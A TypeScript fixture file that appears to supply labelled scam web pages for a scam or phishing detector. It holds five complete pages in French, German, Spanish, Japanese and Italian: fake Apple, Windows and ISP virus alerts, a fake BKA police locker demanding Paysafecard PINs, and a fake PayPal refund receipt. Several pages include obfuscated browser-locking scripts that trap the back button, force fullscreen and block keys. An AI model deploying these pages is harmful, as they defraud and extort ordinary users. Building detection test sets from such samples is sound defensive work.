import { htmlRoute, type Entry } from '../entry.js';
import { beepWav, fileRoute, jsRoute, jsonRoute, pngRoute } from '../parts/e-bin.js';

// ---------- French: Apple / macOS lock screen ----------
const appleHost = 'support-apple-fr.securite-icloud-verif.info';
const applePage = `<!DOCTYPE html>
<html lang="fr">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>Alerte de sécurité Apple</title>
<style>
body{margin:0;height:100vh;overflow:hidden;font-family:-apple-system,"SF Pro Text","Helvetica Neue",Arial,sans-serif;background:linear-gradient(160deg,#1c2a44,#3b1f3d);color:#fff}
.menubar{height:24px;background:rgba(30,30,30,.8);font-size:13px;display:flex;gap:18px;align-items:center;padding:0 14px}
.menubar .r{margin-left:auto}
.sheet{position:absolute;left:50%;top:48%;transform:translate(-50%,-50%);width:520px;background:rgba(246,246,246,.97);color:#1d1d1f;border-radius:12px;box-shadow:0 22px 70px rgba(0,0,0,.55);padding:26px 30px;text-align:center}
.sheet .apple{width:46px;height:56px;margin:0 auto 10px}
.sheet h1{font-size:19px;margin:6px 0 10px}
.sheet p{font-size:13.5px;line-height:1.5;margin:8px 0;color:#333}
.tel{font-size:26px;font-weight:700;color:#0066cc;margin:14px 0 4px;letter-spacing:.5px}
.btn{display:inline-block;margin-top:12px;padding:8px 26px;border-radius:7px;background:#007aff;color:#fff;font-size:14px;text-decoration:none}
.err{font-family:Menlo,monospace;font-size:11px;color:#888;margin-top:12px}
.dock{position:absolute;bottom:8px;left:50%;transform:translateX(-50%);background:rgba(255,255,255,.2);backdrop-filter:blur(10px);border-radius:16px;padding:6px 14px;display:flex;gap:10px}
.dock i{display:block;width:44px;height:44px;border-radius:10px;background:#ddd}
</style>
</head>
<body>
<div class="menubar"><b>&#xF8FF;</b><span>Safari</span><span>Fichier</span><span>Édition</span><span>Présentation</span><span class="r" id="h"></span></div>
<div class="sheet">
 <svg class="apple" viewBox="0 0 170 200"><path fill="#1d1d1f" d="M150 150c-6 13-9 19-17 30-11 16-26 35-45 35-17 0-21-11-44-11s-28 11-45 11C-18 215-2 106 30 84c11-8 25-13 38-13 14 0 23 8 35 8 11 0 18-8 35-8 12 0 25 6 35 17-31 17-26 61 7 73zM105 28c6-8 11-19 9-30-10 1-21 7-28 15-6 7-11 18-9 28 10 1 21-5 28-13z"/></svg>
 <h1>Votre Mac a été verrouillé en raison d’une activité suspecte</h1>
 <p>Le système a détecté qu’un logiciel espion (Pegasus.OSX) tente d’accéder à vos identifiants iCloud, à vos photos et à vos coordonnées bancaires enregistrées dans le trousseau.</p>
 <p>Pour votre sécurité, l’accès à cet appareil a été suspendu. <b>Ne redémarrez pas et n’éteignez pas votre ordinateur</b> : cela pourrait entraîner la perte définitive de vos données.</p>
 <p>Contactez immédiatement l’assistance Apple certifiée :</p>
 <div class="tel" id="tel">09 75 18 42 06</div>
 <div style="font-size:12px;color:#555">Appel gratuit &middot; Techniciens disponibles 7j/7</div>
 <a class="btn" id="call" href="tel:0975184206">Appeler le support</a>
 <div class="err">Code d’erreur : #0x268d3 &middot; ID : <span id="sid"></span></div>
</div>
<div class="dock"><i></i><i></i><i></i><i></i><i></i><i></i></div>
<audio id="a" src="/fr/alerte.wav" loop autoplay></audio>
<script src="/fr/app.js"></script>
</body>
</html>`;
const appleJs = `var _0x4a1c=['dGVs','cGhvbmU=','cmVxdWVzdEZ1bGxzY3JlZW4=','cG9wc3RhdGU='];function _d(i){return atob(_0x4a1c[i])}
(function(){var p=new URLSearchParams(location.search).get(_d(1));if(p){document.getElementById(_d(0)).textContent=p.replace(/(\\d{2})(?=\\d)/g,'$1 ');document.getElementById('call').href='tel:'+p}
document.getElementById('sid').textContent=Math.random().toString(36).slice(2,10).toUpperCase();
setInterval(function(){document.getElementById('h').textContent=new Date().toLocaleString('fr-FR',{weekday:'short',hour:'2-digit',minute:'2-digit'})},1000);
history.pushState(null,'',location.href);window.addEventListener(_d(3),function(){history.pushState(null,'',location.href)});
document.body.addEventListener('click',function(){try{document.documentElement[_d(2)]()}catch(e){}try{document.getElementById('a').play()}catch(e){}},true);
window.onbeforeunload=function(e){e.returnValue='';return ''};
})();`;

// ---------- German: police / BKA browser lock demanding Paysafecard ----------
const bkaHost = 'bka-sicherheit.polizei-onlinewache-de.eu';
const bkaPage = `<!DOCTYPE html>
<html lang="de">
<head>
<meta charset="utf-8">
<title>Bundeskriminalamt – Ihr Browser wurde gesperrt</title>
<meta name="viewport" content="width=device-width,initial-scale=1">
<style>
body{margin:0;background:#e9ecef;font-family:Arial,Helvetica,sans-serif;color:#111}
.top{background:#003366;color:#fff;padding:14px 30px;display:flex;align-items:center;gap:16px}
.top .eagle{width:46px;height:46px;background:#fc0;border-radius:50%;color:#000;font-weight:700;display:flex;align-items:center;justify-content:center}
.top h1{font-size:20px;margin:0}.top small{display:block;font-weight:normal;opacity:.8}
.box{max-width:900px;margin:20px auto;background:#fff;border:1px solid #c5ccd3;display:grid;grid-template-columns:1fr 310px}
.l{padding:22px 26px;font-size:14px;line-height:1.55}.l h2{color:#b00;font-size:19px;margin-top:0}
.l ol li{margin-bottom:6px}
.r{background:#f5f7f9;border-left:1px solid #dde2e7;padding:20px}
.r .ip{font-family:monospace;font-size:13px;background:#fff;border:1px solid #ddd;padding:8px;margin-bottom:12px}
.r label{font-size:13px;font-weight:bold;display:block;margin-top:10px}.r input{width:100%;padding:8px;border:1px solid #aab;box-sizing:border-box;font-size:15px;letter-spacing:1px}
.r button{margin-top:14px;width:100%;padding:11px;background:#b00;color:#fff;border:0;font-weight:bold;font-size:15px}
.psc{display:flex;gap:6px;margin-top:8px}.psc span{flex:1;text-align:center;font-size:11px;border:1px solid #ccc;padding:6px 2px;background:#fff}
.timer{font-size:24px;font-weight:bold;color:#b00;text-align:center;margin:10px 0}
</style>
</head>
<body>
<div class="top"><div class="eagle">BKA</div><h1>Bundeskriminalamt<small>Abteilung Cybercrime &middot; Zentrale Ansprechstelle</small></h1></div>
<div class="box">
 <div class="l">
  <h2>ACHTUNG! Ihr Browser wurde aus Sicherheitsgründen gesperrt.</h2>
  <p>Von Ihrer IP-Adresse aus wurden Internetseiten mit kinderpornographischen Inhalten, Zoophilie und Gewaltdarstellungen aufgerufen sowie urheberrechtlich geschützte Werke (Filme, Musik, Software) illegal verbreitet.</p>
  <p>Damit haben Sie gegen folgende Vorschriften verstoßen:</p>
  <ol><li>§ 184b StGB – Verbreitung, Erwerb und Besitz kinderpornographischer Inhalte</li><li>§ 106 UrhG – Unerlaubte Verwertung urheberrechtlich geschützter Werke</li><li>§ 202c StGB – Vorbereiten des Ausspähens und Abfangens von Daten</li></ol>
  <p>Gemäß der Verordnung vom 28.03.2024 haben Sie die Möglichkeit, das Verfahren durch Zahlung einer <b>Geldbuße in Höhe von 250 Euro</b> einzustellen. Die Zahlung ist innerhalb von 24 Stunden mit einem <b>Paysafecard</b>-Code zu leisten.</p>
  <p>Nach Eingang der Zahlung wird Ihr Browser automatisch entsperrt. Erfolgt keine Zahlung, wird automatisch ein Strafverfahren eingeleitet und Ihre Festplatte zur Beweissicherung beschlagnahmt.</p>
  <p style="font-size:12px;color:#666">Aktenzeichen: BKA-CC/<span id="az"></span></p>
 </div>
 <div class="r">
  <div class="ip">IP: <b id="ip">wird ermittelt…</b><br>Ort: <span id="ort">Deutschland</span><br>Browser: <span id="ua"></span></div>
  <div class="timer" id="tm">23:59:59</div>
  <form id="pay" action="/gate/pay.php" method="post">
   <label>Paysafecard PIN (16-stellig)</label>
   <input name="pin" id="pin" maxlength="19" placeholder="0000-0000-0000-0000" inputmode="numeric" required>
   <label>Betrag</label>
   <input name="amt" value="250 €" readonly>
   <div class="psc"><span>paysafecard</span><span>Ukash</span><span>MoneyPak</span></div>
   <button type="submit">Geldbuße bezahlen</button>
  </form>
  <p style="font-size:11px;color:#666">Paysafecard-Codes erhalten Sie an jeder Tankstelle, in Supermärkten und Kiosken.</p>
 </div>
</div>
<script>
(function(){
document.getElementById('az').textContent=(Date.now()%1e7).toString()+'/25';
document.getElementById('ua').textContent=navigator.userAgent.split(')')[0].split('(')[1]||'Unbekannt';
fetch('/gate/geo.php').then(function(r){return r.json()}).then(function(j){document.getElementById('ip').textContent=j.ip;document.getElementById('ort').textContent=j.city+', '+j.country}).catch(function(){});
var end=Date.now()+86399000;setInterval(function(){var s=Math.max(0,Math.floor((end-Date.now())/1000));document.getElementById('tm').textContent=[Math.floor(s/3600),Math.floor(s/60)%60,s%60].map(function(n){return('0'+n).slice(-2)}).join(':')},1000);
document.getElementById('pin').addEventListener('input',function(){var v=this.value.replace(/\\D/g,'').slice(0,16);this.value=v.replace(/(\\d{4})(?=\\d)/g,'$1-')});
document.getElementById('pay').addEventListener('submit',function(e){e.preventDefault();var pin=document.getElementById('pin').value.replace(/\\D/g,'');if(pin.length!==16){alert('Ungültiger PIN');return}
fetch('/gate/pay.php',{method:'POST',headers:{'Content-Type':'application/x-www-form-urlencoded'},body:'pin='+pin+'&id='+document.getElementById('az').textContent}).then(function(){document.querySelector('.r').innerHTML='<h3>Zahlung wird geprüft</h3><p>Die Prüfung kann bis zu 48 Stunden dauern. Schließen Sie dieses Fenster nicht.</p>'})});
for(var i=0;i<10;i++)history.pushState({},'',location.href);onpopstate=function(){history.go(1)};
document.addEventListener('keydown',function(e){if(e.key==='F5'||e.key==='Escape'||(e.ctrlKey&&(e.key==='r'||e.key==='w')))e.preventDefault()});
})();
</script>
</body>
</html>`;

// ---------- Spanish: ISP "connection blocked" ----------
const ispHost = 'movistar-seguridad-red.soporte-cliente-es.com';
const ispPage = `<!DOCTYPE html>
<html lang="es">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width,initial-scale=1">
<title>Aviso de seguridad – Su conexión ha sido bloqueada</title>
<link rel="stylesheet" href="/aviso/css/main.css">
</head>
<body>
<div class="ov"></div>
<header><span class="logo">movistar</span><span class="sub">Centro de Seguridad de la Red</span></header>
<main>
 <section class="card">
  <div class="icon">&#9888;</div>
  <h1>Su conexión a Internet ha sido bloqueada temporalmente</h1>
  <p>Hemos detectado tráfico malicioso procedente de su router (<b id="ip">—</b>). Un virus troyano está utilizando su línea para enviar correo basura y robar contraseñas bancarias.</p>
  <p>Para proteger la red y a otros clientes, su línea quedará <b>suspendida en <span id="cd">10:00</span> minutos</b> si no se verifica el equipo.</p>
  <div class="phone">Llame gratis al servicio técnico:<br><a href="tel:+34900838214" id="tl">900 838 214</a></div>
  <ul class="info"><li>Referencia de incidencia: <b id="ref"></b></li><li>Sistema operativo: <b id="so"></b></li><li>Horario: 24 horas, 7 días</li></ul>
  <p class="small">No cierre esta página ni apague el router. Un técnico certificado le guiará para eliminar la infección de forma remota.</p>
 </section>
</main>
<footer>© Telefónica de España S.A.U. – Aviso de seguridad automático</footer>
<script src="/aviso/js/aviso.js"></script>
</body>
</html>`;
const ispCss = `body{margin:0;font-family:"Open Sans",Arial,sans-serif;background:#f2f4f7;color:#222}
header{background:#019df4;color:#fff;padding:14px 28px;display:flex;align-items:baseline;gap:14px}.logo{font-size:28px;font-weight:700;letter-spacing:-1px}.sub{opacity:.9}
.ov{position:fixed;inset:0;background:rgba(0,0,0,.04);pointer-events:none}
main{display:flex;justify-content:center;padding:40px 16px}.card{background:#fff;max-width:640px;padding:28px 34px;border-radius:8px;box-shadow:0 4px 20px rgba(0,0,0,.1);border-top:5px solid #e4002b}
.icon{font-size:44px;color:#e4002b}h1{font-size:22px}.phone{background:#eaf6fe;text-align:center;padding:16px;margin:18px 0;font-size:15px}.phone a{font-size:30px;font-weight:700;color:#019df4;text-decoration:none}
.info{font-size:14px;color:#444}.small{font-size:12px;color:#777}footer{text-align:center;font-size:11px;color:#999;padding:20px}`;
const ispJs = `(function(){var s=document.currentScript,q=new URLSearchParams(location.search);
var n=q.get('tfn');if(n){var t=document.getElementById('tl');t.textContent=n.replace(/^(\\d{3})(\\d{3})(\\d{3})$/,'$1 $2 $3');t.href='tel:+34'+n}
document.getElementById('ref').textContent='INC-'+Math.floor(1e6+Math.random()*9e6);
var ua=navigator.userAgent;document.getElementById('so').textContent=/Windows/.test(ua)?'Windows':/Mac/.test(ua)?'macOS':/Android/.test(ua)?'Android':'Desconocido';
fetch('/aviso/ip').then(function(r){return r.text()}).then(function(t){document.getElementById('ip').textContent=t}).catch(function(){});
var left=600;setInterval(function(){left=Math.max(0,left-1);document.getElementById('cd').textContent=Math.floor(left/60)+':'+('0'+left%60).slice(-2)},1000);
var a=new Audio('/aviso/beep.wav');a.loop=true;document.addEventListener('click',function(){a.play().catch(function(){});document.documentElement.requestFullscreen&&document.documentElement.requestFullscreen().catch(function(){})},{once:true});
history.pushState(0,'',location.href);addEventListener('popstate',function(){history.pushState(0,'',location.href)});
})();`;

// ---------- Japanese: Windows Defender warning with 050 number ----------
const jaHost = 'windows-keikoku.anzen-support-center.jp.net';
const jaPage = `<!DOCTYPE html>
<html lang="ja">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width,initial-scale=1">
<title>Windows セキュリティ警告 - トロイの木馬に感染しています</title>
<style>
body{margin:0;background:#0067b8;font-family:"Yu Gothic UI","Meiryo",sans-serif;height:100vh;overflow:hidden}
.full{position:fixed;inset:0;background:#0067b8 repeating-linear-gradient(45deg,rgba(255,255,255,.02) 0 10px,transparent 10px 20px)}
.dlg{position:absolute;left:50%;top:50%;transform:translate(-50%,-50%);width:600px;background:#fff;border:1px solid #005a9e;box-shadow:0 10px 40px rgba(0,0,0,.5)}
.ttl{background:#005a9e;color:#fff;padding:7px 12px;font-size:13px}
.cnt{padding:18px 22px;font-size:14px;line-height:1.7;color:#222}
.cnt h2{color:#d13438;font-size:19px;margin:0 0 8px}
.red{color:#d13438;font-weight:bold}
.tel{font-size:30px;font-weight:bold;color:#d13438;text-align:center;margin:12px 0}
.foot{background:#f0f0f0;text-align:right;padding:10px}
.foot button{padding:6px 24px;margin-left:6px}
.marq{position:fixed;top:0;left:0;right:0;background:#d13438;color:#fff;font-weight:bold;padding:6px;white-space:nowrap;overflow:hidden}
.marq span{display:inline-block;animation:m 14s linear infinite}@keyframes m{from{transform:translateX(100vw)}to{transform:translateX(-100%)}}
</style>
</head>
<body>
<div class="full"></div>
<div class="marq"><span>警告！お使いのコンピューターはウイルスに感染しています。今すぐサポートに電話してください：050-5438-7712（通話無料）</span></div>
<div class="dlg">
 <div class="ttl">Windows Defender セキュリティセンター</div>
 <div class="cnt">
  <h2>** トロイの木馬型スパイウェアに感染しています **</h2>
  <p>このPCは<span class="red">「Trojan:Win32/Wacatac.H!ml」</span>に感染していることが検出されました。以下のデータが盗まれる危険があります：</p>
  <p>・Facebook のログイン情報<br>・クレジットカードの詳細<br>・メールアカウントのログイン情報<br>・このコンピューターに保存されている写真</p>
  <p>PCを再起動またはシャットダウンしないでください。データが失われる恐れがあります。すぐに下記のマイクロソフト認定技術者にお電話ください。</p>
  <div class="tel">050-5438-7712</div>
  <p style="text-align:center;font-size:12px">Windows サポート（日本語対応・24時間受付）</p>
 </div>
 <div class="foot"><button onclick="lk()">キャンセル</button><button onclick="lk()">OK</button></div>
</div>
<audio id="v" src="/jp/voice_ja.wav" loop></audio>
<script>
var _=[104,105,115,116,111,114,121];var hs=String.fromCharCode.apply(null,_);
function lk(){var e=document.documentElement;(e.requestFullscreen||e.webkitRequestFullscreen||function(){}).call(e);try{document.getElementById('v').play()}catch(x){}}
document.onclick=lk;document.onkeydown=function(e){lk();if(e.keyCode==27||e.keyCode==122||e.keyCode==116)return false};
for(var i=0;i<30;i++)window[hs].pushState({},'','#'+i);
window.onhashchange=function(){window[hs].forward()};
document.oncontextmenu=function(){return false};
</script>
</body>
</html>`;

// ---------- Italian: PayPal-style renewal invoice with a phone number ----------
const itHost = 'fattura-pagamento.paypal-assistenza-it.com';
const itPage = `<!DOCTYPE html>
<html lang="it">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width,initial-scale=1">
<title>Ricevuta del pagamento – Norton 360 Deluxe</title>
<style>
body{margin:0;background:#f5f7fa;font-family:"Helvetica Neue",Arial,sans-serif;color:#2c2e2f}
.bar{background:#fff;border-bottom:1px solid #e5e8eb;padding:16px 30px}.bar b{color:#003087;font-size:26px;font-style:italic}.bar b i{color:#009cde}
.card{max-width:620px;margin:30px auto;background:#fff;border-radius:10px;padding:30px 36px;box-shadow:0 1px 4px rgba(0,0,0,.08)}
h1{font-size:22px;font-weight:400}
.amt{font-size:34px;font-weight:300;margin:6px 0 18px}
dl{display:grid;grid-template-columns:180px 1fr;gap:6px 10px;font-size:14px}dt{color:#6c7378}
.help{margin-top:26px;padding:16px;border:1px solid #ffd666;background:#fffbeb;border-radius:6px;font-size:14px;line-height:1.5}
.help .n{display:block;font-size:22px;font-weight:700;margin-top:6px;color:#003087}
.lnk{display:inline-block;margin-top:16px;background:#0070ba;color:#fff;padding:11px 24px;border-radius:22px;text-decoration:none;font-weight:600}
footer{font-size:11px;color:#8f9498;max-width:620px;margin:10px auto 40px;line-height:1.5}
</style>
</head>
<body>
<div class="bar"><b>Pay<i>Pal</i></b></div>
<div class="card">
 <h1>Hai inviato un pagamento a NortonLifeLock Inc.</h1>
 <div class="amt">349,99 € EUR</div>
 <dl>
  <dt>ID transazione</dt><dd>9KX48213VN5520741</dd>
  <dt>Data</dt><dd id="dt"></dd>
  <dt>Articolo</dt><dd>Norton 360 Deluxe – Rinnovo automatico 3 anni (5 dispositivi)</dd>
  <dt>Metodo di pagamento</dt><dd>Saldo PayPal / Carta collegata</dd>
  <dt>Stato</dt><dd><b>Completato</b></dd>
 </dl>
 <div class="help">Non riconosci questa transazione? L’addebito verrà confermato entro 24 ore. Per annullare l’ordine e ottenere il rimborso completo contatta il nostro Centro Risoluzioni:
  <span class="n">&#x260E; +39 02 9475 3318</span>
  Lun–Dom 8:00–22:00. Tieni a portata di mano l’ID transazione.</div>
 <a class="lnk" href="tel:+390294753318">Contatta l'assistenza</a>
</div>
<footer>Copyright © 1999–2025 PayPal. Tutti i diritti riservati. Questa è una ricevuta automatica. Non rispondere a questa email; per assistenza chiama il numero indicato sopra.</footer>
<script>document.getElementById('dt').textContent=new Date().toLocaleDateString('it-IT',{day:'numeric',month:'long',year:'numeric'});
(function(){var t=new URLSearchParams(location.search).get('t');navigator.sendBeacon&&navigator.sendBeacon('/r/open',JSON.stringify({t:t,ua:navigator.userAgent,l:navigator.language}))})();</script>
</body>
</html>`;

export const entries: Entry[] = [
  {
    id: 'e-scam-icloud-lock-fr',
    label: 'scam',
    kind: 'tech-support',
    url: `https://${appleHost}/mac/verrou/?phone=0975184206&lp=fr3`,
    body: applePage,
    routes: {
      [`${appleHost}/fr/app.js`]: jsRoute(appleJs),
      [`${appleHost}/fr/alerte.wav`]: fileRoute(beepWav(1, 660), 'audio/wav'),
    },
  },
  {
    id: 'e-scam-police-lock-de',
    label: 'scam',
    kind: 'police-locker',
    url: `https://${bkaHost}/sperre/index.php?id=DE-4471`,
    body: bkaPage,
    routes: {
      [`${bkaHost}/gate/geo.php`]: jsonRoute({ ip: '91.64.118.27', city: 'Berlin', country: 'DE' }),
      [`${bkaHost}/gate/pay.php`]: { status: 200, headers: { 'content-type': 'text/plain' }, body: 'queued' },
    },
  },
  {
    id: 'e-scam-isp-block-es',
    label: 'scam',
    kind: 'tech-support',
    url: 'https://cdn-push.notif-reward.top/go/es/?s=movi&tfn=900838214',
    routes: {
      'cdn-push.notif-reward.top/go/es/': htmlRoute(`<!doctype html><html><head><meta charset="utf-8"><title></title><script>setTimeout(function(){location.replace('https://${ispHost}/aviso/index.html'+location.search)},120)</script></head><body></body></html>`),
      [`${ispHost}/aviso/index.html`]: htmlRoute(ispPage),
      [`${ispHost}/aviso/css/main.css`]: { status: 200, headers: { 'content-type': 'text/css' }, body: ispCss },
      [`${ispHost}/aviso/js/aviso.js`]: jsRoute(ispJs),
      [`${ispHost}/aviso/ip`]: { status: 200, headers: { 'content-type': 'text/plain' }, body: '83.44.201.12' },
      [`${ispHost}/aviso/beep.wav`]: fileRoute(beepWav(0.8, 1000), 'audio/wav'),
    },
  },
  {
    id: 'e-scam-virus-alert-ja',
    label: 'scam',
    kind: 'tech-support',
    url: `https://${jaHost}/win/keikoku.html`,
    body: jaPage,
    routes: {
      [`${jaHost}/jp/voice_ja.wav`]: fileRoute(beepWav(1.5, 740), 'audio/wav'),
      [`${jaHost}/favicon.ico`]: pngRoute(0, 103, 184),
    },
  },
  {
    id: 'e-scam-refund-paypal-fattura-it',
    label: 'scam',
    kind: 'refund-renewal',
    url: `https://${itHost}/ricevuta/9KX48213VN5520741?t=mx7731`,
    body: itPage,
    routes: {
      [`${itHost}/r/open`]: { status: 204, headers: {}, body: '' },
    },
  },
];
